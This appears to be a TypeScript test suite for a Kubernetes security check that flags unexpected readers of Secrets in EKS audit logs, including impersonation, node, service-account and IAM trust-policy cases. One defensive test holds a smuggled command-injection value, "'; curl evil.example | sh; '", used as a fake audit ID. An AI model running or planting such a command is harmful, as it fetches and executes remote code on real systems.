import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { mostIdentities } from '../../shared/activity/read-tally.ts';
import { secretReadersAreExpected } from '../../shared/checks/secret-readers-are-expected.ts';
import { mostNamed } from '../../shared/evidence/events.ts';
import { recordedLines, toSession } from '../activity/audit-lines.ts';
import { toRuns } from '../runs.ts';
import { account, denied, type Given, judge, saysDenied } from './cases.ts';
import { toRole } from './policies.ts';
import {
  acrossAll,
  callers,
  kubelet,
  lookAlikes,
  ofAll,
  quietLines,
  readBy,
  times,
  toReads,
  toTrusted,
} from './reads.ts';

const ask = (lines: readonly object[], more: Given = {}) =>
  judge(secretReadersAreExpected, { reads: toReads(lines), ...more });
const expecting = (...secretReaders: (string | { principal: string; clusters?: string })[]): Given => ({
  settings: { expected: { secretReaders } },
});
const elsewhere = { objectRef: { namespace: 'shop' } };

describe('secret-readers-are-expected', () => {
  it.each<[string, object[], Given?]>([
    ['no reads', []],
    ['what a cluster does of its own accord', quietLines],
    ['EKS by its own role in the account', [readBy(callers.insights)]],
    ['a person who was refused', [readBy(callers.ana, { code: 403 })]],
    ['a person who asked for what is not there', [readBy(callers.ana, { code: 404 })]],
    ['a person who changed one', [readBy(callers.ana, { verb: 'patch' })]],
    ['a person whom the configuration names by ARN', [readBy(callers.ana)], expecting('*:role/Developer')],
    [
      'one whom it names by username',
      [readBy(callers.certManager)],
      expecting('system:serviceaccount:cert-manager:*'),
    ],
    [
      'a username under a template',
      [readBy(toSession('x', 'ana', { username: 'dev:ana' }))],
      expecting('dev:*'),
    ],
    [
      'somebody expected on this cluster',
      [readBy(callers.ana)],
      expecting({ principal: '*', clusters: 'sh*' }),
    ],
    [
      'Keyward itself, by its role and its agent',
      [readBy(callers.ana, { userAgent: 'keyward/1.0.0', verb: 'list', objectRef: acrossAll })],
      { reads: undefined },
    ],
  ])('passes for %s', (_, lines, more = {}) => {
    const own = 'reads' in more ? [toRole('Developer')] : [];
    const { reads: __, ...given } = more;
    expect(ask(lines, { ...given, reads: toReads(lines, { own }) })).toMatchObject([
      { status: 'pass', subject: null },
    ]);
  });

  const more = mostIdentities + 5;
  const asMany = (user: object, count = more) =>
    times(count, (index) => readBy(user, { impersonatedUser: { username: `u-${index}` } }));

  it('tells who impersonated more than a page of others once, with all that he read in their names', () => {
    expect(ask(asMany(callers.ana, mostNamed))).toHaveLength(mostNamed);
    const [finding, lee, ...others] = ask([
      ...asMany(callers.ana),
      readBy(callers.ana, { impersonatedUser: callers.oidc }),
      readBy(callers.oidc),
    ]);
    expect(finding).toMatchObject({
      status: 'fail',
      severity: 'high',
      subject: `${toRole('Developer')} as others`,
      message: expect.stringMatching(
        /^arn:\S+Developer, in more than 1999 names of others, read the Secret payments\/stripe 2006 times/,
      ),
      fix: expect.stringContaining(
        `end the sessions of ${toRole('Developer')}, take its rights to impersonate`,
      ),
      evidence: {
        count: more + 1,
        names: { toldApart: mostIdentities - 1, areAll: false },
        impersonators: [toRole('Developer')],
      },
    });
    expect(lee).toMatchObject({ subject: 'lee', evidence: { count: 1, impersonatedCount: 0 } });
    expect(others).toEqual([]);
  });

  it('tells one by one whom an expected impersonator stands for, and of those beyond who impersonated them', () => {
    const lines = [...asMany(callers.ana), ...asMany(toSession('Zoe', 'x'), 5)];
    const findings = ask(lines, expecting('*:role/Developer'));
    expect(findings).toHaveLength(mostIdentities + 1);
    expect(findings.find(({ subject }) => subject === '*')).toMatchObject({
      status: 'fail',
      severity: 'high',
      message: expect.stringMatching(
        /^others than the 2000 identities that are told apart, impersonated by arn:\S+Zoe, read the Secret payments\/stripe 5 times/,
      ),
      evidence: { count: 5, usernames: [], impersonators: [toRole('Zoe')] },
    });
  });

  it('says nothing of others whom nobody impersonated', () => {
    const findings = ask(times(more, (index) => readBy({ username: `u-${index}` })));
    expect(findings).toHaveLength(mostIdentities);
    expect(findings.map(({ subject }) => subject)).not.toContain('*');
  });

  it.each<[string, object, string, string, string, Given?]>([
    ['a person', readBy(callers.ana), toRole('Developer'), 'high', 'has seen their values'],
    [
      'EKS’s own role, called otherwise',
      readBy(toSession('AWSServiceRoleForAmazonEKS', 'x')),
      toRole('AWSServiceRoleForAmazonEKS'),
      'high',
      'person',
    ],
    ['a person of no IAM', readBy(callers.oidc), 'lee', 'high', 'has seen their values'],
    ['anonymous', readBy(callers.anonymous), 'system:anonymous', 'high', 'somebody let system:anonymous'],
    [
      'anonymous, a release of Helm’s',
      readBy(callers.anonymous, { objectRef: { name: 'sh.helm.release.v1.a.v1' } }),
      'system:anonymous',
      'high',
      'somebody let',
    ],
    [
      'a node with kubectl',
      readBy(callers.node),
      toRole('node'),
      'high',
      'no kubelet reading what its pods need',
    ],
    [
      'a node that takes a whole namespace, whatever it calls itself',
      readBy(callers.node, { userAgent: kubelet, verb: 'list', objectRef: ofAll }),
      toRole('node'),
      'high',
      'no kubelet',
    ],
    [
      'a node whose kubelet no authorizer binds',
      readBy({ ...callers.node, groups: [...callers.node.groups, 'system:masters'] }, { userAgent: kubelet }),
      toRole('node'),
      'high',
      'aws-auth puts it into system:masters',
    ],
    [
      'kubelet’s agent by a person',
      readBy(callers.ana, { userAgent: kubelet }),
      toRole('Developer'),
      'high',
      'person',
    ],
    [
      'a service account of another namespace',
      readBy(callers.mirror),
      'system:serviceaccount:observability:mirror',
      'medium',
      'not of its own namespace',
    ],
    [
      'a service account that lists across',
      readBy(callers.api, { verb: 'list', objectRef: acrossAll }),
      'system:serviceaccount:payments:api',
      'medium',
      'not of its own namespace',
    ],
    [
      'kube-system’s, outside it',
      readBy(callers.coreDns),
      'system:serviceaccount:kube-system:coredns',
      'medium',
      '',
    ],
    [
      'one called like a controller in another namespace',
      readBy({
        username: 'system:serviceaccount:default:generic-garbage-collector',
        groups: ['system:serviceaccounts', 'system:serviceaccounts:default', 'system:authenticated'],
      }),
      'system:serviceaccount:default:generic-garbage-collector',
      'medium',
      'not of its own namespace',
    ],
    [
      'a release of Helm’s',
      readBy(callers.ana, { objectRef: { name: 'sh.helm.release.v1.shop.v3' } }),
      toRole('Developer'),
      'low',
      'carry the values that a chart was rendered with',
    ],
    [
      'Keyward’s role with another agent',
      readBy(callers.ana),
      toRole('Developer'),
      'high',
      'has seen',
      { reads: undefined },
    ],
    [
      'somebody expected on other clusters',
      readBy(callers.ana),
      toRole('Developer'),
      'high',
      '',
      expecting({ principal: '*', clusters: 'prod-*' }),
    ],
    [
      'Keyward’s agent by anybody else',
      readBy(callers.oidc, { userAgent: 'keyward/1.0.0' }),
      'lee',
      'high',
      'has seen',
      { reads: undefined },
    ],
  ])('fails for %s', (_, line, subject, severity, message, more = {}) => {
    const own = 'reads' in more ? [toRole('Developer')] : [];
    const { reads: __, ...given } = more;
    expect(
      ask([line, ...quietLines], { ...given, reads: toReads([line, ...quietLines], { own }) }),
    ).toMatchObject([{ status: 'fail', severity, subject, message: expect.stringContaining(message) }]);
  });

  it.each(lookAlikes)('takes for a person, and for nobody that is expected, %s', (_, user) => {
    const everybodyOfTheSystem = expecting('system:*', 'eks:*');
    for (const given of [{}, everybodyOfTheSystem]) {
      const verdicts = ask([readBy(user, { ...elsewhere, userAgent: kubelet })], given);
      const isBlank = 'username' in user && /^(eks-|system:apiserver |.*:x$)/.test(String(user.username));
      if (given === everybodyOfTheSystem && isBlank) continue;
      expect(verdicts).toMatchObject([{ status: 'fail', severity: 'high' }]);
    }
  });

  it.each<[string, string, object, string?]>([
    ['EC2', 'high', { AWS: `arn:aws:iam::${account}:root` }],
    [
      'people by SAML',
      'high',
      { Federated: `arn:aws:iam::${account}:saml-provider/Corp` },
      'sts:AssumeRoleWithSAML',
    ],
    [
      'people by another provider',
      'high',
      { Federated: `arn:aws:iam::${account}:oidc-provider/login.example.com` },
      'sts:AssumeRoleWithWebIdentity',
    ],
    ['a service', 'medium', { Service: 'codebuild.amazonaws.com' }],
    ['a service and people', 'high', { Service: 'ec2.amazonaws.com', AWS: `arn:aws:iam::${account}:root` }],
    [
      'jobs of GitHub',
      'medium',
      { Federated: `arn:aws:iam::${account}:oidc-provider/token.actions.githubusercontent.com` },
      'sts:AssumeRoleWithWebIdentity',
    ],
    [
      'a provider that is called alike',
      'high',
      { Federated: `arn:aws:iam::${account}:oidc-provider/token.actions.githubusercontent.com.evil.example` },
      'sts:AssumeRoleWithWebIdentity',
    ],
    [
      'pods of a cluster',
      'medium',
      { Federated: `arn:aws:iam::${account}:oidc-provider/oidc.eks.eu-west-1.amazonaws.com/id/ABC` },
      'sts:AssumeRoleWithWebIdentity',
    ],
    ...[
      'token.actions.githubusercontent.com/octocat-inc',
      'api.bitbucket.org/2.0/workspaces/shop/pipelines-config/identity/oidc',
      'oidc.circleci.com/org/c5a99188',
      'agent.buildkite.com',
      'app.terraform.io',
    ].map((provider): [string, string, object, string] => [
      `jobs of ${provider}`,
      'medium',
      { Federated: `arn:aws:iam::${account}:oidc-provider/${provider}` },
      'sts:AssumeRoleWithWebIdentity',
    ]),
    [
      'a role that a service alone can become, and itself',
      'medium',
      { AWS: ['builder', 'Developer'].map((name) => toRole(name)) },
    ],
    ['a role that people can become', 'high', { AWS: toRole('people') }],
    ['a role that can become only what this one can', 'high', { AWS: toRole('circle') }],
    ['a role of which nothing is known', 'high', { AWS: toRole('gone') }],
  ])('weighs a role by who can become it: %s %s', (_, severity, principal, action) => {
    const others = [
      toTrusted('builder', { Service: 'codebuild.amazonaws.com' }),
      toTrusted('people', { AWS: `arn:aws:iam::${account}:root` }),
      toTrusted('circle', { AWS: toRole('Developer') }),
    ];
    const iam = { roles: [toTrusted('Developer', principal, action), ...others] } as Given['iam'];
    expect(ask([readBy(callers.ana)], { iam })).toMatchObject([{ status: 'fail', severity }]);
  });

  it('expects whom a name only looks like a system’s by what stands behind it', () => {
    const thief = toSession('Thief', 'x', callers.api);
    expect(ask([readBy(thief, elsewhere)], expecting('*:role/Thief'))).toMatchObject([{ status: 'pass' }]);
  });

  it.each([
    ['nobody can become', JSON.stringify({ Version: '2012-10-17', Statement: [] })],
    ['has a trust policy that is none', 'not JSON'],
  ])('counts a role as a person that %s', (_, AssumeRolePolicyDocument) => {
    const iam = { roles: [{ ...toTrusted('Developer', {}), AssumeRolePolicyDocument }] } as Given['iam'];
    expect(ask([readBy(callers.ana)], { iam })).toMatchObject([{ status: 'fail', severity: 'high' }]);
  });

  it('counts a role of which nothing is known as a person', () => {
    expect(ask([readBy(callers.ana)], { iam: denied })).toMatchObject([{ status: 'fail', severity: 'high' }]);
    expect(ask([readBy(callers.ana)], { absent: ['iam.cluster'] })).toMatchObject([{ severity: 'high' }]);
  });

  it('folds sessions, names what was read, and says how to find the requests', () => {
    const lines = [
      ...times(30, (index) =>
        readBy(toSession('Developer', `s-${index}`), { objectRef: { name: `a-${index % 2}` } }),
      ),
      readBy(callers.ana, {
        at: '2026-11-21T02:10:00Z',
        auditID: 'c2a8ffc2-b3cf-4b7a-8c23-6dc8b4a80754',
        verb: 'list',
        objectRef: { ...ofAll, namespace: 'shop' },
      }),
      readBy(callers.ana, { objectRef: { name: 'sh.helm.release.v1.shop.v3' } }),
    ];
    expect(ask(lines)).toMatchObject([
      {
        subject: toRole('Developer'),
        message:
          'arn:aws:iam::111122223333:role/Developer read the Secrets payments/a-0, payments/a-1 and Secrets of shop by list or watch 31 times (sessions ana, s-0, s-1 and 17 more) between 2026-11-20 10:00 UTC and 2026-11-21 02:10 UTC, from 192.0.2.10, with kubectl/v1.35.4 (linux/amd64). Nobody expects it to: a person or a role has seen their values.',
        evidence: {
          count: 31,
          verbs: { get: 30, list: 1 },
          denied: 0,
          secrets: ['payments/a-0', 'payments/a-1', 'shop/*'],
          groups: ['developers', 'system:authenticated'],
          lesserReads: 1,
        },
        fix: expect.stringContaining(
          `--log-group-name /aws/eks/shop/cluster --log-stream-name-prefix kube-apiserver-audit --filter-pattern '{ $.auditID = "c2a8ffc2-b3cf-4b7a-8c23-6dc8b4a80754" }'`,
        ),
      },
    ]);
  });

  it('names one Secret as one, and once as once', () => {
    expect(ask([readBy(callers.oidc)])[0]?.message).toMatch(
      /^lee read the Secret payments\/stripe once at 2026-11-20 10:00 UTC, from 192\.0\.2\.10, with kubectl/,
    );
  });

  it('puts no audit id into a command that somebody may have made up', () => {
    const [verdict] = ask([readBy(callers.ana, { auditID: `'; curl evil.example | sh; '` })]);
    expect(verdict).toMatchObject({ status: 'fail', fix: expect.not.stringContaining('curl') });
    expect(verdict).toMatchObject({ fix: expect.not.stringContaining('aws logs') });
  });

  it('suggests a line only for a name that it would expect alone', () => {
    const toFix = (user: object) => {
      const [verdict] = ask([readBy(user)]);
      return verdict?.status === 'fail' ? verdict.fix : undefined;
    };
    expect(toFix(callers.ana)).toContain(
      'add to expected.secretReaders: - "arn:aws:iam::111122223333:role/Developer"',
    );
    for (const username of ['*', 'system:serviceaccount:argocd:argocd-server', 'le?'])
      expect(toFix({ username, groups: ['system:authenticated'] })).not.toContain('add to');
  });

  describe('an impersonated read', () => {
    const asApi = (user: object) => readBy(user, { impersonatedUser: callers.api });

    it('is the impersonated identity’s, and names who impersonated it', () => {
      expect(ask([asApi(callers.ana)])).toMatchObject([
        {
          status: 'fail',
          severity: 'high',
          subject: 'system:serviceaccount:payments:api',
          message: expect.stringMatching(
            /^system:serviceaccount:payments:api, impersonated by arn:aws:iam::111122223333:role\/Developer, read the Secret/,
          ),
          evidence: { impersonators: [toRole('Developer')] },
          fix: expect.stringMatching(
            /end the sessions of arn:aws:iam::111122223333:role\/Developer, take its rights to impersonate, .* - "arn:aws:iam::111122223333:role\/Developer"/,
          ),
        },
      ]);
    });

    it('is told apart from the identity’s own', () => {
      const asLee = readBy(callers.ana, { impersonatedUser: callers.oidc });
      expect(ask([asLee, readBy(callers.oidc), readBy(callers.oidc)])).toMatchObject([
        {
          subject: 'lee',
          message: expect.stringContaining(`lee, 1 of 3 times impersonated by ${toRole('Developer')}, read`),
          evidence: { count: 3, impersonatedCount: 1 },
          fix: expect.stringContaining(
            `end the sessions of lee, take its rights to read Secrets, end the sessions of ${toRole('Developer')}, take its rights to impersonate, and replace what was read.`,
          ),
        },
      ]);
    });

    it('is expected only where both are', () => {
      const asLee = readBy(callers.ana, { impersonatedUser: callers.oidc });
      expect(ask([asApi(callers.ana)], expecting('*:role/Developer'))).toMatchObject([{ status: 'pass' }]);
      expect(ask([asLee], expecting('*:role/Developer'))).toMatchObject([{ status: 'fail', subject: 'lee' }]);
      expect(ask([asLee], expecting('lee'))).toMatchObject([{ status: 'fail', subject: 'lee' }]);
      expect(ask([asLee], expecting('lee', '*:role/Developer'))).toMatchObject([{ status: 'pass' }]);
    });

    it.each([
      ['the API server', callers.apiServer],
      ['EKS', callers.certificates],
      ['a node', { username: 'system:node:a', groups: ['system:nodes', 'system:authenticated'] }],
      ['a controller', callers.garbageCollector],
    ])('of %s hides nobody', (_, impersonatedUser) => {
      expect(ask([readBy(callers.ana, { impersonatedUser, userAgent: kubelet })])).toMatchObject([
        { status: 'fail', severity: 'high', evidence: { impersonators: [toRole('Developer')] } },
      ]);
      expect(ask([readBy(callers.mirror, { impersonatedUser, userAgent: kubelet })])).toMatchObject([
        { status: 'fail' },
      ]);
    });

    it('of an IAM principal by a claimed ARN is a username’s', () => {
      const impersonatedUser = {
        ...callers.oidc,
        extra: { canonicalArn: [toRole('break-glass')], canonicalarn: [toRole('break-glass')] },
      };
      expect(ask([readBy(callers.ana, { impersonatedUser })], expecting('*:role/*'))).toMatchObject([
        { status: 'fail', subject: 'lee' },
      ]);
    });
  });

  it('judges the recorded log', () => {
    const found = ask(
      recordedLines.map((line) => ({ ...line, requestReceivedTimestamp: '2026-11-20T10:00:00Z' })),
    );
    expect(
      found
        .map((verdict) => [verdict.subject, verdict.status === 'fail' ? verdict.severity : verdict.status])
        .sort(),
    ).toEqual([
      ['lee', 'high'],
      ['system:serviceaccount:argocd:argocd-application-controller', 'medium'],
      ['system:serviceaccount:observability:mirror', 'medium'],
    ]);
  });

  it('is unknown where the log could not be read, and never passes over a part of it', () => {
    expect(ask([], { reads: denied })).toMatchObject(saysDenied);
    expect(ask([], { absent: ['secret.reads'] })).toMatchObject([{ status: 'unknown', reason: 'failed' }]);
    expect(ask(quietLines, { missing: ['secret.reads'] })).toMatchObject([
      { status: 'unknown', reason: 'throttled' },
    ]);
    expect(ask([readBy(callers.ana)], { missing: ['secret.reads'] })).toMatchObject([
      { status: 'fail' },
      { status: 'unknown' },
    ]);
  });

  it('claims nothing of the use of the key, nor of what an answer held', () => {
    expect(secretReadersAreExpected.pass).not.toMatch(/key|used/i);
    expect(secretReadersAreExpected.pass).toMatch(/^In the time that was read/);
  });

  it('says the same in whatever order lines come, and whatever the cluster does beside', () => {
    const users = Object.values(callers);
    const line = fc
      .record({
        user: fc.constantFrom(...users),
        verb: fc.constantFrom('get', 'list', 'watch', 'delete'),
        code: fc.constantFrom(200, 403, 404),
        userAgent: fc.constantFrom(kubelet, 'kubectl/v1.35.4'),
        impersonatedUser: fc.option(fc.constantFrom(...users), { nil: undefined }),
        objectRef: fc.constantFrom({}, ofAll, acrossAll, { namespace: 'shop' }),
      })
      .map(({ user, ...more }) => readBy(user, more));
    const bySubject = (verdicts: ReturnType<typeof ask>) =>
      [...verdicts].sort((a, b) => ((a.subject ?? '') < (b.subject ?? '') ? -1 : 1));
    fc.assert(
      fc.property(fc.array(line, { maxLength: 20 }), (lines) => {
        expect(bySubject(ask([...quietLines, ...lines.toReversed(), ...lines]))).toEqual(
          bySubject(ask(lines)),
        );
      }),
      { numRuns: toRuns(20) },
    );
  });
});
